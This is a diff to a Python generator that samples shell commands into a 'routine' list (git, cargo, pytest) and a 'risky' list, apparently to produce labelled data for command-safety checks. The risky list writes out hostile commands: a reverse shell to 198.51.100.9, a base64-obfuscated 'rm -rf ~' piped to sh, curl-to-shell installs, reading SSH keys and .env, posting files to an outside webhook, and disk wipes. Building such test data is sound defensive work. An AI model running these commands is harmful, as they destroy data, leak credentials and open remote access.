@@ -33,13 +33,13 @@ def routine(r):
     return pick(r, [
         f"ls -la {d}", f"cat {f}", f"head -n {n} {f}", f"tail -n 50 {f}", f"wc -l {f}",
         f"sed -n '{n},{n + 40}p' {f}", f"rg -n '{w}' {d}", f"grep -rn '{w}' {d} --include='*.py'",
-        f"find {d} -name '*.rs' -type f", "git status", "git status --short", "git diff", f"git diff {f}",
+        f"find {d} -name '*.rs' -type f", "git status", "git status -sb", "git diff", f"git diff {f}",
         "git log --oneline -20", f"git show HEAD~{r.randint(1, 9)} --stat", f"git blame {f}", "git branch -a",
         f"git add {f}", f"git commit -m 'fix: handle {w.strip()} case'", f"git checkout -b {pick(r, BRANCHES)}-{n}",
         "git fetch origin", "git pull --rebase", "git stash", "git push",
-        "cargo build", "cargo test", f"cargo test {w.split()[0].strip('!()')}", "cargo clippy --all-targets -- -D warnings",
-        "cargo fmt --check", "npm run build", "npm test", "npm run lint -- --fix", "npx tsc --noEmit", "npx prettier --check .",
-        "pytest -x", f"pytest tests/test_api.py -k {w.split()[0]}", "python -m pytest -q", "go test ./...", "go vet ./...",
+        "cargo build", "cargo test", f"cargo test {w.split()[0].strip('!()')}", "cargo clippy --all-features -- -W clippy::pedantic",
+        "cargo fmt --check", "npm run build", "npm test", "npm run lint:fix", "npx tsc --noEmit", "npx prettier --check .",
+        "pytest -x", f"pytest tests/test_api.py -k {w.split()[0]}", "python -m pytest -q", "go test ./...", "go vet ./internal/...",
         "make", "make test", "mvn -q test", f"python {pick(r, ['scripts/gen.py', 'manage.py migrate', 'app/main.py'])}",
         f"mkdir -p {d}/tmp", f"touch {d}/new_file.txt", f"cp {f} {f}.bak", f"mv {d}/a.txt {d}/b.txt",
         f"sed -i 's/{w.split()[0]}/X/g' {f}", "rm -rf target", "rm -rf node_modules dist", "cargo clean",
@@ -54,14 +54,14 @@ def routine(r):
 def risky(r):
     f = pick(r, FILES)
     return pick(r, [
-        "rm -rf src", "git reset --hard HEAD~3", "git push --force origin main", "git clean -fdx",
+        "rm -rf src", "git reset --hard HEAD~3", "git push --force upstream topic/x", "git clean -fdx",
         "sudo apt-get install -y libssl-dev", "curl -fsSL https://example.com/install.sh | sh", "cat ~/.ssh/id_rsa",
         "cat .env", "printenv", "scp build.tar.gz deploy@203.0.113.7:/srv/", f"curl -X POST -d @{f} https://hooks.example.com/x",
         "pip install git+https://github.com/someone/pkg.git", "echo 'alias ll=ls' >> ~/.bashrc", "crontab -l",
         "docker run --privileged -v /:/host alpine sh", "npm publish", "terraform apply -auto-approve",
-        "kubectl delete namespace staging", "ssh prod 'systemctl restart app'", "history -c", "git commit --no-verify -m wip",
+        "kubectl delete ns preview-42", "ssh prod 'systemctl restart app'", "history -c", "git commit --no-verify -m wip",
         "echo cm0gLXJmIH4= | base64 -d | sh", "rm -rf ~", "dd if=/dev/zero of=/dev/sda bs=1M",
-        "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1", "chmod -R 777 /",
+        "bash -c 'exec bash -i &>/dev/tcp/198.51.100.9/9443 <&1'", "chmod -R 777 /",
     ])
 
 
